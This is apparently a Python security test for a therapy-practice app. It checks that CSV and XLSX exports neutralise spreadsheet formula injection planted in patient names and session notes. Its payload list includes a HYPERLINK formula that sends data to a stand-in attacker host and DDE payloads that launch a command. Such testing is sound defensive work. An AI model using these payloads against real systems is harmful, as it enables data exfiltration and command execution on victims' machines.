"""Formula injection through CSV and XLSX exports (OWASP "CSV injection", ASVS 5.0 V1.2.10):
values that spreadsheet programs would run as formulas are planted through the API in a
client's name and notes, exported as CSV and XLSX, and read back with Python's csv module, as
SpreadsheetML and with LibreOffice Calc. Every such cell must come back neutralised - a text
cell never begins with = + - @ tab CR LF - and LibreOffice must show the planted text, not a
result it computed."""
import io
import json
import os
import re
import unittest
import zipfile

from attacker import AttackerPracticeTest, wait_for_job
from spreadsheets import FORMULA_LEADS, cell_value, csv_rows, libreoffice_csv, xlsx_sheets, write_temp, zip_tables

PAYLOADS = [
    '=HYPERLINK("http://attacker.test/steal?d="&A1,"Open record")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\t=2+3",
    "\r=4+5",
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


class CsvInjectionTest(AttackerPracticeTest):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.token = cls.therapist["token"]
        cls.patient_id = cls.therapist["patient_ids"][0]
        status, patient, _ = cls.api("PATCH", f"/api/v1/patients/{cls.patient_id}",
                                     {"preferred_name": "=HYPERLINK(\"http://attacker.test\")",
                                      "family_name": "@Evil"}, cls.token)
        assert status == 200, patient
        kept = [s for s in cls.sessions_of(cls.patient_id, cls.token) if s["status"] == "kept"]
        cls.session_ids = [kept[-1]["id"]]
        cls.planted = []
        for payload in PAYLOADS:
            status, note, _ = cls.api("POST", "/api/v1/notes", {
                "session_id": kept[-1]["id"], "kind": "progress_note", "format": "free",
                "sections": {"text": payload}, "action_items": [payload], "signed": True}, cls.token)
            assert status == 201, (payload, note)
            cls.planted.append(note["sections"]["text"])
        cls.files = []

    @classmethod
    def tearDownClass(cls):
        for path in cls.files:
            os.unlink(path)
        super().tearDownClass()

    def exported(self, kind, body):
        status, accepted, _ = self.api("POST", f"/api/v1/export/{kind}", body, self.token)
        self.assertEqual(status, 202, accepted)
        job = wait_for_job(self.server, self.token, accepted["job_id"])
        self.assertEqual(job["status"], "completed", job)
        status, data, _ = self.api("GET", job["download_url"], token=self.token)
        self.assertEqual(status, 200)
        return data

    def assert_safe_text(self, cell, where):
        if cell and cell[0] in FORMULA_LEADS:
            self.assertRegex(cell, NUMBER, f"{where}: a cell that a spreadsheet would run: {cell!r}")

    def csv_tables(self, kind, body):
        data = self.exported(kind, dict(body, format="csv"))
        if kind == "session-notes":
            return data, {"session_notes": csv_rows(data)}
        return data, zip_tables(data)[1]

    def test_planted_formulas_are_neutralised_in_every_csv_cell(self):
        for kind, body in (("session-notes", {"session_ids": self.session_ids}),
                           ("full-record", {"patient_id": self.patient_id}),
                           ("progress-report", {"patient_id": self.patient_id})):
            _, tables = self.csv_tables(kind, body)
            cells = []
            for name, (rows, header) in tables.items():
                for row in rows:
                    for column, cell in row.items():
                        self.assert_safe_text(cell, f"{kind} {name}.{column}")
                        cells.append(cell)
            if kind == "session-notes":
                for payload in self.planted:
                    self.assertIn("'" + payload, cells, f"{kind}: {payload!r}")
            if kind == "full-record":
                # The full record keeps a note's sections as JSON text: safe, and all there.
                notes, _ = tables["session_notes"]
                texts = [json.loads(n["sections"]).get("text") for n in notes]
                for payload in self.planted:
                    self.assertIn(payload, texts)

    def test_planted_formulas_are_neutralised_in_every_xlsx_text_cell(self):
        for kind, body in (("session-notes", {"session_ids": self.session_ids}),
                           ("full-record", {"patient_id": self.patient_id})):
            data = self.exported(kind, dict(body, format="xlsx"))
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                for name in z.namelist():
                    self.assertNotIn(b"<f>", z.read(name), name)  # no formula anywhere
            texts = []
            for sheet, (header, rows, _) in xlsx_sheets(data).items():
                for row in rows:
                    for cell in row:
                        if cell is not None and cell.get("t") == "inlineStr":
                            value = cell_value(cell)
                            self.assert_safe_text(value, f"{kind} {sheet}")
                            texts.append(value)
            if kind == "session-notes":
                for payload in self.planted:
                    self.assertIn("'" + payload, texts, f"{kind}: {payload!r}")

    def test_libreoffice_shows_the_planted_text_and_computes_nothing(self):
        data, tables = self.csv_tables("session-notes", {"session_ids": self.session_ids})
        csv_path = write_temp(data, ".csv")
        xlsx_path = write_temp(self.exported("session-notes", {"session_ids": self.session_ids,
                                                               "format": "xlsx"}), ".xlsx")
        self.files += [csv_path, xlsx_path]
        for path, sheet in ((csv_path, ""), (xlsx_path, "session_notes")):
            shown = libreoffice_csv(path)[sheet]
            header = shown[0]
            texts = [dict(zip(header, r)).get("text", "") for r in shown[1:]]
            for payload in self.planted:
                # Calc shows the cell as text: the planted characters (a CR in a cell reads
                # as a line break), not a computed value.
                shown_as = payload.replace("\r", "\n")
                self.assertTrue(any(payload in t or shown_as in t for t in texts), f"{path}: {payload!r} not shown: {texts}")
            self.assertNotIn("2", texts)
            self.assertNotIn("0", texts)


if __name__ == "__main__":
    unittest.main()
